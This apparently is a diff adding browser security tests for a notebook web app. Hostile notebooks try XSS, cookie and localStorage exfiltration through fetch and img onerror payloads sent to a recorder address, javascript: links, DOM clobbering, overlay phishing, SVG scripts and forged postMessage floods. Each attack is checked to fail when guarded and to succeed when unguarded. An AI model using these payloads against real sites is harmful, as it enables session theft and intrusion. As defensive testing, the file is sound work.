@@ -1,0 +1,551 @@
+"""A notebook that means harm, in the page. Each attack is made twice: with every guard in place it
+comes to nothing, and without the guard that stops it, it succeeds, so that these tests can fail."""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Iterator
+from typing import TYPE_CHECKING, Any
+
+import httpx2
+import pytest
+from msgspec import Struct
+
+from intheloop.values import sha256_hex
+from tests import hostile
+from tests.browsing import House, launched
+from tests.hostile import (
+    SECRET,
+    Cell,
+    Guard,
+    Recorder,
+    Scene,
+    displays,
+    html,
+    note,
+    opened,
+    recording,
+    script,
+    shows,
+)
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Browser
+
+pytestmark = [pytest.mark.browser, pytest.mark.slow]
+
+
+class Attack(Struct, frozen=True):
+    """What a notebook tries: `cells` are made for the address that listens. `stopped` waits until
+    it came to nothing, `landed` until it succeeded; both fail otherwise."""
+
+    name: str
+    cells: Callable[[str], list[Cell]]
+    stopped: Callable[[Scene], None]
+    landed: Callable[[Scene], None]
+    without: tuple[Guard, ...]
+    path: str = "/n/{}"
+    file: str = "hostile.ipynb"
+
+
+def says(expected: str) -> Callable[[Scene], None]:
+    """The script of the output found out just this."""
+
+    def check(scene: Scene) -> None:
+        assert scene.told().strip() == expected
+
+    return check
+
+
+def holds(part: str) -> Callable[[Scene], None]:
+    """The script of the output found this, among other things."""
+
+    def check(scene: Scene) -> None:
+        assert part in scene.told()
+
+    return check
+
+
+def refuses(*words: str) -> Callable[[Scene], None]:
+    """The browser refused it, and says so."""
+    return lambda scene: scene.refused(*words)
+
+
+def reached(*parts: str) -> Callable[[Scene], None]:
+    """All of these came to the recorder."""
+
+    def check(scene: Scene) -> None:
+        for part in parts:
+            scene.reached(part)
+
+    return check
+
+
+def drawn(selector: str, more: Callable[[Scene], None] | None = None) -> Callable[[Scene], None]:
+    """It is shown, as what it is."""
+
+    def check(scene: Scene) -> None:
+        scene.page.locator(selector).first.wait_for()
+        if more:
+            more(scene)
+
+    return check
+
+
+def is_so(expression: str) -> Callable[[Scene], None]:
+    return lambda scene: void(scene.page.wait_for_function(expression))
+
+
+def void(_: Any) -> None:
+    return None
+
+
+def loot(elsewhere: str) -> str:
+    """Code that carries the secrets away, without a space or a quote that would end it anywhere."""
+    return f"fetch('{elsewhere}/loot?'+document.cookie+localStorage.canary)"
+
+
+def handler(elsewhere: str) -> str:
+    """Markup that does so as soon as it is markup."""
+    return f"<img src=data:, onerror={loot(elsewhere)}>"
+
+
+STOLEN = reached(f"/loot?canary={SECRET}{SECRET}")
+ANY_POLICY = hostile.page_policy()
+
+SCRIPTS = [
+    Attack(
+        "a script reads cookies, storage and the page",
+        lambda _: [
+            script(
+                "await attempt('cookie', () => document.cookie);"
+                "await attempt('storage', () => localStorage.canary);"
+                "await attempt('page', () => parent.document.title);"
+                "await attempt('cookies of all', () => cookieStore.getAll())"
+            )
+        ],
+        says(
+            "cookie!SecurityError storage!SecurityError page!SecurityError "
+            "cookies of all!SecurityError"
+        ),
+        holds(f"cookie=canary={SECRET} storage={SECRET} page="),
+        (hostile.sandbox,),
+    ),
+    Attack(
+        "a script calls the API",
+        lambda _: [script("await attempt('api', async () => (await fetch('/api/health')).status)")],
+        says("api!TypeError"),
+        says("api=200"),
+        (hostile.sandbox, hostile.frame_policy("sandbox", "form-action", "default-src")),
+    ),
+    Attack(
+        "a script sends what it knows elsewhere",
+        lambda to: [
+            script(
+                f"await attempt('fetch', () => fetch('{to}/fetch', {{mode: 'no-cors'}}));"
+                f"navigator.sendBeacon('{to}/beacon', 'x')"
+            )
+        ],
+        says("fetch!TypeError"),
+        reached("/fetch", "/beacon"),
+        (hostile.frame_policy("default-src"),),
+    ),
+    Attack(
+        "a script leads the page away",
+        lambda to: [
+            script(
+                f"await attempt('top', () => {{ top.location = '{to}/page' }});"
+                f"await attempt('parent', () => {{ parent.location.href = '{to}/page' }})"
+            )
+        ],
+        says("top!SecurityError parent!SecurityError"),
+        reached("/page"),
+        (hostile.sandbox,),
+    ),
+    Attack(
+        "a script leads its own frame away",
+        lambda to: [script(f"location.href = '{to}/page'")],
+        refuses("frame-src"),
+        reached("/page"),
+        (hostile.page_policy("frame-src"),),
+    ),
+    Attack(
+        "a page that goes on by itself leads its frame away",
+        lambda to: [html(f'<meta http-equiv="refresh" content="0; url={to}/page">')],
+        refuses("frame-src"),
+        reached("/page"),
+        (hostile.page_policy("frame-src"),),
+    ),
+    Attack(
+        "a script opens a window",
+        lambda to: [
+            script(
+                "const link = document.createElement('a');"
+                f"Object.assign(link, {{href: '{to}/page', target: '_blank'}}).click()"
+            )
+        ],
+        refuses("allow-popups"),
+        reached("/page"),
+        (hostile.sandbox,),
+    ),
+    Attack(
+        "a form is sent without anybody",
+        lambda to: [
+            script(
+                "document.forms[0].submit()",
+                f'<form method="post" action="{to}/form"><input name="a" value="b"></form>',
+            )
+        ],
+        refuses("allow-forms"),
+        reached("/form"),
+        (hostile.sandbox, hostile.page_policy("frame-src", "form-action")),
+    ),
+    Attack(
+        "a script asks for a window of the browser",
+        lambda _: [script("await attempt('answer', () => prompt('Sign in again'))")],
+        says("answer=null"),
+        says(f"answer={SECRET}"),
+        (hostile.sandbox,),
+    ),
+]
+
+OUTSIDE = [
+    Attack(
+        "HTML loads pictures, styles, fonts, films and pages from elsewhere",
+        lambda to: [
+            html(
+                f"<style>@import url('{to}/import.css'); #x {{ background: url('{to}/back') }}"
+                f"@font-face {{ font-family: f; src: url('{to}/font') }} #x {{ font-family: f }}"
+                f"</style><p id=x>text<img src='{to}/img'><video src='{to}/video'></video>"
+                f"<object data='{to}/object'></object><iframe src='{to}/page'></iframe>"
+                f"<link rel=stylesheet href='{to}/style.css'><script src='{to}/script.js'></script>"
+            )
+        ],
+        refuses("/img"),
+        reached("import.css", "/back", "/font", "/img", "/video", "/page", "script.js"),
+        (
+            hostile.frame_policy(
+                *("default-src", "img-src", "style-src", "font-src", "media-src", "script-src")
+            ),
+        ),
+    ),
+    Attack(
+        "a Vega chart loads its data and pictures from elsewhere",
+        lambda to: [
+            displays(
+                "application/vnd.vega.v6+json",
+                {
+                    "width": 50,
+                    "height": 50,
+                    "data": [{"name": "d", "url": f"{to}/data.json"}],
+                    "marks": [
+                        {
+                            "type": "image",
+                            "encode": {
+                                "enter": {
+                                    "url": {"value": f"{to}/img"},
+                                    "width": {"value": 9},
+                                    "height": {"value": 9},
+                                }
+                            },
+                        }
+                    ],
+                },
+            )
+        ],
+        refuses("/data.json", "connect"),
+        reached("/data.json", "/img"),
+        (hostile.frame_policy("default-src", "img-src"),),
+    ),
+    Attack(
+        "a Plotly chart loads pictures and maps from elsewhere",
+        lambda to: [
+            displays(
+                "application/vnd.plotly.v1+json",
+                {
+                    "data": [{"type": "scattergeo", "lon": [1], "lat": [2]}],
+                    "layout": {
+                        "images": [{"source": f"{to}/img", "sizex": 1, "sizey": 1}],
+                        "xaxis": {"visible": True},
+                    },
+                    "config": {"topojsonURL": f"{to}/topo-json/"},
+                },
+            )
+        ],
+        refuses("/topo-json/", "connect"),
+        reached("/topo-json/"),
+        (hostile.frame_policy("default-src", "img-src"),),
+    ),
+    Attack(
+        "a note loads a picture that counts its readers",
+        lambda to: [note(f"![]({to}/pixel)")],
+        refuses("/pixel"),
+        reached("/pixel"),
+        (hostile.page_policy("img-src"),),
+    ),
+]
+
+NOTES = [
+    Attack(
+        "markup of a note runs",
+        lambda to: [note(f'# Birds\n\n<img src="data:," onerror="{loot(to)}">')],
+        drawn("h1:text('Birds')"),
+        STOLEN,
+        (hostile.cleaner, ANY_POLICY),
+    ),
+    Attack(
+        "a link of a note is a script",
+        lambda to: [note(f'<a href="java&#10;script:{loot(to)}">press</a> # Birds')],
+        lambda scene: (
+            drawn(".note a")(scene) or is_so("() => !document.querySelector('.note a').href")(scene)
+        ),
+        is_so("() => document.querySelector('.note a')?.href.startsWith('javascript:')"),
+        (hostile.cleaner,),
+    ),
+    Attack(
+        "a note names parts of the page",
+        lambda _: [note("# Birds\n\n<img name=cookie><a id=root>x</a><form name=body></form>")],
+        lambda scene: (
+            drawn("h1:text('Birds')")(scene)
+            or is_so("() => typeof document.cookie === 'string'")(scene)
+        ),
+        is_so("() => typeof document.cookie !== 'string'"),
+        (hostile.cleaner,),
+    ),
+    Attack(
+        "a note lies over the page in its own looks",
+        lambda _: [note('# Birds\n\n<div class="backdrop">Sign in</div>')],
+        lambda scene: (
+            drawn("h1:text('Birds')")(scene)
+            or is_so("() => !document.elementFromPoint(300, 20)?.closest('.markdown')")(scene)
+        ),
+        is_so("() => document.elementFromPoint(300, 20)?.closest('.markdown')"),
+        (hostile.cleaner,),
+    ),
+    Attack(
+        "a formula is a link that runs",
+        lambda to: [note(r"$\href{javascript:alert(1)}{x}$ $y$")],
+        lambda scene: (
+            drawn(".katex >> nth=1")(scene)
+            or is_so("() => !document.querySelector('.note a')")(scene)
+        ),
+        drawn(".note a[href^='javascript:']"),
+        (hostile.rewritten("/assets/formula-.*js", ("trust:!1", "trust:!0")),),
+    ),
+]
+
+
+def stream(text: str) -> dict[str, Any]:
+    return {"output_type": "stream", "name": "stdout", "text": [text]}
+
+
+def error(name: str, value: str, line: str) -> dict[str, Any]:
+    return {"output_type": "error", "ename": name, "evalue": value, "traceback": [line, "end"]}
+
+
+PLACES: dict[str, Callable[[str], Cell]] = {
+    "text": lambda bad: shows(stream(f"begun {bad}")),
+    "terminal": lambda bad: shows(stream(f"begun \x1b]0;{bad}\x07\x1b[31m{bad}\x1b[0m")),
+    "error": lambda bad: shows(error(f"begun{bad}", "", "")),
+    "words": lambda bad: shows(error("E", f"begun {bad}", "")),
+    "frames": lambda bad: shows(error("E", "", f"begun {bad}")),
+    "key": lambda bad: displays("application/json", {f"begun {bad}": 1}),
+    "value": lambda bad: displays("application/json", ["begun", bad]),
+    "mime": lambda bad: displays(f"x/begun{bad}", "data"),
+    "table": lambda bad: html(
+        '<table class="dataframe"><tbody><tr><td>begun</td><td>'
+        f"{bad.replace('<', '&lt;')}</td></tr></tbody></table>"
+    ),
+}
+
+ATTACKS = [*SCRIPTS, *OUTSIDE, *NOTES]
+
+
+@pytest.fixture(scope="module")
+def chromium() -> Iterator[Browser]:
+    """A document that a test has changed comes from no address that the browser knows, and would be
+    kept from this machine's others for that reason alone."""
+    with launched("--disable-features=LocalNetworkAccessChecks") as browser:
+        yield browser
+
+
+@pytest.fixture
+def recorder() -> Iterator[tuple[Recorder, str]]:
+    with recording() as one:
+        yield one
+
+
+@pytest.mark.parametrize("guarded", [True, False], ids=["guarded", "unguarded"])
+@pytest.mark.parametrize("attack", ATTACKS, ids=[attack.name for attack in ATTACKS])
+def test_it_comes_to_nothing_but_for_its_guard(
+    house: House,
+    chromium: Browser,
+    recorder: tuple[Recorder, str],
+    attack: Attack,
+    guarded: bool,
+) -> None:
+    heard, elsewhere = recorder
+    cells = attack.cells(elsewhere)
+    without = () if guarded else attack.without
+    with opened(
+        house, chromium, recorder, cells, without=without, path=attack.path, name=attack.file
+    ) as scene:
+        if not guarded:
+            attack.landed(scene)
+            return
+        attack.stopped(scene)
+        assert heard.heard() == []
+        assert scene.opened == []
+        assert scene.page.url == f"{house.url}{attack.path.format(scene.notebook_id)}"
+
+
+@pytest.mark.parametrize("guarded", [True, False], ids=["guarded", "unguarded"])
+def test_words_are_words_wherever_they_stand(
+    house: House, chromium: Browser, recorder: tuple[Recorder, str], guarded: bool
+) -> None:
+    heard, elsewhere = recorder
+    cells = [make(handler(f"{elsewhere}/{place}")) for place, make in PLACES.items()]
+    without = () if guarded else (hostile.text_as_text, ANY_POLICY)
+    with opened(house, chromium, recorder, cells, without=without) as scene:
+        title = scene.page.title()
+        for number in range(len(cells)):
+            outputs = scene.page.locator(".cell").nth(number).locator(".outputs")
+            outputs.scroll_into_view_if_needed()
+            outputs.get_by_text("begun").first.wait_for()
+        if guarded:
+            assert heard.heard() == []
+            assert scene.page.title() == title
+            assert scene.page.locator(".outputs a").count() == 0
+        else:
+            for place in PLACES:
+                scene.reached(f"/{place}/loot?canary={SECRET}{SECRET}")
+
+
+@pytest.mark.parametrize("guarded", [True, False], ids=["guarded", "unguarded"])
+@pytest.mark.parametrize("place", ["/", "/n/{}/history"], ids=["list", "history"])
+def test_so_are_titles_and_the_names_of_files(
+    house: House, chromium: Browser, recorder: tuple[Recorder, str], place: str, guarded: bool
+) -> None:
+    heard, elsewhere = recorder
+    name = f"begun {handler(elsewhere)}.ipynb"
+    without = () if guarded else (hostile.text_as_text, ANY_POLICY)
+    with opened(house, chromium, recorder, [], without=without, path=place, name=name) as scene:
+        scene.page.get_by_text("begun").first.wait_for()
+        if guarded:
+            assert heard.heard() == []
+        else:
+            STOLEN(scene)
+        house.call("delete_notebook", notebook_id=scene.notebook_id)
+
+
+SVG = (
+    '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><script>'
+    "document.documentElement.setAttribute('data-ran', localStorage.canary)</script></svg>"
+)
+
+
+@pytest.mark.parametrize("guarded", [True, False], ids=["guarded", "unguarded"])
+def test_a_picture_that_is_opened_by_itself_runs_nothing(
+    house: House, chromium: Browser, recorder: tuple[Recorder, str], guarded: bool
+) -> None:
+    without = () if guarded else (ANY_POLICY,)
+    cells = [displays("image/svg+xml", SVG)]
+    with opened(house, chromium, recorder, cells, without=without) as scene:
+        image = scene.page.locator(".output-image")
+        image.wait_for()
+        with scene.page.expect_popup() as popup:
+            image.evaluate("image => void open(image.src)")
+        popup.value.locator("svg").wait_for()
+        ran = popup.value.locator("svg").get_attribute("data-ran")
+        assert ran == (None if guarded else SECRET)
+
+
+PAGE = "<!doctype html><p>here<script>document.title = document.cookie</script>"
+
+
+@pytest.mark.parametrize(
+    ("kept", "outcome"),
+    [
+        (("content-type", "content-disposition", "content-security-policy"), "download"),
+        (("content-security-policy",), ""),
+        ((), f"canary={SECRET}"),
+    ],
+    ids=["guarded", "sandboxed alone", "unguarded"],
+)
+def test_a_blob_that_is_opened_by_itself_runs_nothing(
+    house: House,
+    chromium: Browser,
+    recorder: tuple[Recorder, str],
+    kept: tuple[str, ...],
+    outcome: str,
+) -> None:
+    with opened(house, chromium, recorder, []) as scene:
+        data = PAGE.encode()
+        address = f"/api/notebooks/{scene.notebook_id}/blobs/{sha256_hex(data)}"
+        headers = {"Authorization": f"Bearer {house.token}"}
+        httpx2.put(house.address + address, content=data, headers=headers, trust_env=False)
+        if outcome != "download":
+            hostile.served_as_page(scene.page.context, address, kept)
+        if outcome == "download":
+            with scene.page.expect_download() as download:
+                scene.page.evaluate("address => void (location.href = address)", address)
+            assert download.value.path().read_bytes() == data
+        else:
+            page = scene.page.context.new_page()
+            page.goto(house.url + address)
+            page.get_by_text("here").wait_for()
+            assert page.title() == outcome
+
+
+@pytest.mark.parametrize("guarded", [True, False], ids=["guarded", "unguarded"])
+def test_one_output_tells_another_nothing(
+    house: House, chromium: Browser, recorder: tuple[Recorder, str], guarded: bool
+) -> None:
+    forged = (
+        "const forged = {show: {kind: 'html', html: '<p>forged'}, theme: {}};"
+        "let sent = 0; const send = () => { for (let at = 0; at < parent.length; at += 1)"
+        " if (parent[at] !== self) { parent[at].postMessage(forged, '*'); sent += 1; }"
+        " document.getElementById('told').textContent = sent > 50 ? 'sent' : '...';"
+        " setTimeout(send, 5); }; send()"
+    )
+    cells = [script(forged), html("<p>honest")]
+    without = () if guarded else (hostile.rewritten("/frame/frame-.*js", *TRUSTING),)
+    with opened(house, chromium, recorder, cells, without=without) as scene:
+        scene.page.frame_locator("iframe >> nth=0").get_by_text("sent").wait_for()
+        second = scene.page.frame_locator("iframe >> nth=1")
+        second.get_by_text("honest" if guarded else "forged").wait_for()
+        assert second.get_by_text("forged").count() == (0 if guarded else 1)
+
+
+TRUSTING = ((".source!==parent", ".source===0"), ("if(a)return;", ""))
+"""A frame that hears whoever speaks, as often as anybody does."""
+
+LIES = """
+for (const lie of [null, 7, "ready", {kind: "height", height: 1e9}, {kind: "height", height: "x"},
+    {kind: "failed", reason: "<img src=x>".repeat(1000)}, {kind: "nothing"},
+    {kind: "picture", address: "data:image/png;base64,AAAA"},
+    {kind: "link", address: "LINK"}]) parent.postMessage(lie, "*");
+tell('said');
+"""
+
+
+@pytest.mark.parametrize("guarded", [True, False], ids=["guarded", "unguarded"])
+def test_the_page_believes_nothing_that_a_frame_says(
+    house: House, chromium: Browser, recorder: tuple[Recorder, str], guarded: bool
+) -> None:
+    heard, elsewhere = recorder
+    cells = [script(LIES.replace("LINK", f"{elsewhere}/page"))]
+    without = (hostile.clicked(not guarded),)
+    with opened(house, chromium, recorder, cells, without=without) as scene:
+        downloads: list[object] = []
+        scene.page.on("download", lambda one: downloads.append(one))
+        failures: list[object] = []
+        scene.page.on("pageerror", lambda one: failures.append(one))
+        assert scene.told().strip() == "said"
+        scene.page.get_by_text("It could not be drawn").wait_for()
+        assert scene.page.locator("iframe").bounding_box()["height"] <= 720  # type: ignore[index]
+        asked = scene.page.locator(".output-link")
+        if guarded:
+            assert asked.count() == 0
+        else:
+            asked.get_by_role("link").wait_for()  # which opens nothing by itself
+        assert (downloads, failures, heard.heard(), scene.opened) == ([], [], [], [])
